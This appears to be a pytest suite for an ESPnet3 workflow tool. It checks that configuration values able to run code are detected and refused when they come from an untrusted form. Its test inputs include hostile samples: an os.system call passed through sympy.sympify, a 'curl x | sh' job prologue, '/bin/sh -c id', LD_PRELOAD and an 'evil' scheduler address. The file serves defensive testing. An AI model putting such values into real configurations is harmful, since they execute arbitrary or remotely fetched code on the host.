"""Which config values are code, for every registered job's schema (espnet3_flows.code_keys)."""

from __future__ import annotations

import pytest

from espnet3_flows.code_keys import CodeFromFormError, code_values, refuse_untrusted_code, untrusted_code
from espnet3_flows.job_registry import available_jobs
from espnet3_flows.orchestration.jobs import get_job, merged_data

COLLECT = get_job("collect_stats").config_class
XVECTORS = get_job("extract_xvectors").config_class
SYMPIFY = {"_target_": "sympy.sympify", "_args_": ["__import__('os').system('id')"]}


def keys(schema, data) -> set[str]:
    return {v.key for v in code_values(schema, data)}


@pytest.mark.parametrize("job", available_jobs())
def test_every_jobs_defaults_name_no_code(job):
    assert merged_data(job, None, {}, []) and code_values(get_job(job).config_class, merged_data(job, None, {}, [])) == []


def test_the_keys_that_are_code():
    assert keys(COLLECT, {"frontend": {"type": "model", "model": SYMPIFY}}) == {"frontend.model"}
    assert keys(COLLECT, {"parallel": {"env": "sympy.sympify", "options": {
        "address": "tcp://evil:8786", "scheduler_file": "/tmp/s.json", "start_method": "spawn"}}}) == {
        "parallel.env", "parallel.options.address", "parallel.options.scheduler_file"}
    assert keys(COLLECT, {"allow_pipes": True}) == {"allow_pipes"}
    assert keys(COLLECT, {"allow_pipes": False, "parallel": {"env": "slurm"}}) == set()


def test_the_old_spellings_of_moved_parallel_keys_are_code_too():
    """``parallel.cluster_class``, ``parallel.address`` and ``parallel.scheduler_file`` are read
    as ``parallel.env`` and ``parallel.options.*`` before the check, from a run's parameters
    and from overrides alike."""
    from espnet3_flows.orchestration.parameters import dotted_values

    old = {"parallel.cluster_class": "sympy.sympify", "parallel.address": "tcp://evil:8786"}
    form = dotted_values(COLLECT, {"parallel": {"scheduler_file": "/tmp/s.json"}})  # a section, as a form sends it
    for params, overrides in ((old, []), (form, []),
                              ({}, ["parallel.cluster_class=sympy.sympify"])):
        data = merged_data("collect_stats", None, params, overrides)
        found = keys(COLLECT, data)
        assert found and found <= {"parallel.env", "parallel.options.address", "parallel.options.scheduler_file"}, found
    # options: resource settings are data, anything else (env, preload, a job script's lines) is code
    options = {"queue": "gpu", "walltime": "01:00:00", "memory": "4GB", "env": {"LD_PRELOAD": "/x.so"},
               "preload": ["/x.py"], "job_script_prologue": ["curl x | sh"], "python": "/bin/sh -c id"}
    assert keys(COLLECT, {"parallel": {"options": options}}) == {
        "parallel.options.env", "parallel.options.preload", "parallel.options.job_script_prologue",
        "parallel.options.python"}
    # a _target_ anywhere, in any key, nested in lists too
    assert keys(COLLECT, {"frontend": {"conf": {"window": [{"_target_": "builtins.open"}]}}}) == {
        "frontend.conf.window[0]"}


def test_a_model_directory_is_code_only_where_its_files_build_objects():
    assert keys(XVECTORS, {"xvector": {"toolkit": "speechbrain", "pretrained_model": "/m"}}) == {"xvector.pretrained_model"}
    assert keys(XVECTORS, {"xvector": {"toolkit": "espnet", "pretrained_model": "/m"}}) == set()
    assert keys(XVECTORS, {"xvector": {"toolkit": "rawnet", "pretrained_model": "/m.pt"}}) == set()
    assert keys(XVECTORS, {"xvector": {"toolkit": "custom", "model": {"_target_": "torch.load"}}}) == {"xvector.model"}


def test_the_operators_own_value_and_opened_keys_are_trusted():
    theirs = {"frontend": {"type": "model", "model": {"_target_": "lab.Frontend", "dim": 80}}}
    assert untrusted_code(COLLECT, theirs, theirs) == []
    changed = {"frontend": {"type": "model", "model": {"_target_": "lab.Frontend", "dim": 40}}}
    assert [v.key for v in untrusted_code(COLLECT, changed, theirs)] == ["frontend.model"]
    assert untrusted_code(COLLECT, changed, theirs, trusted_keys=["frontend"]) == []
    options = {"parallel": {"options": {"env": {"A": "1"}, "queue": "q"}}}
    assert untrusted_code(COLLECT, options, {}, trusted_keys=["parallel.options"]) == []
    assert [v.key for v in untrusted_code(COLLECT, options, {}, trusted_keys=["parallel.options.en"])] == [
        "parallel.options.env"]


def test_the_refusal_is_one_line_naming_each_key_never_the_whole_value():
    secret = "x" * 5000
    with pytest.raises(CodeFromFormError) as err:
        refuse_untrusted_code(COLLECT, {"frontend": {"model": {**SYMPIFY, "token": secret}},
                                        "parallel": {"env": "sympy.sympify"}}, {})
    text = str(err.value)
    assert "\n" not in text and secret not in text and len(text) < 1000
    assert "frontend.model (_target_ 'sympy.sympify'" in text and "parallel.env" in text


def test_the_refusal_never_quotes_a_value_that_is_not_a_target():
    hidden = "postgres://user:pw@db/x"
    with pytest.raises(CodeFromFormError) as err:
        refuse_untrusted_code(COLLECT, {"parallel": {"options": {"env": {"DATABASE_URL": hidden}}}}, {})
    assert "parallel.options.env (a dict value" in str(err.value) and hidden not in str(err.value)


def test_code_is_found_before_anything_it_names_is_imported(tmp_path):
    import sys

    config = tmp_path / "c.yaml"
    config.write_text("frontend:\n  type: model\n  model: {_target_: never_imported_module_x.Model}\n")
    data = merged_data("collect_stats", str(config), {}, [])  # merged, not validated: nothing imported
    assert "never_imported_module_x" not in sys.modules
    assert keys(COLLECT, data) == {"frontend.model"}
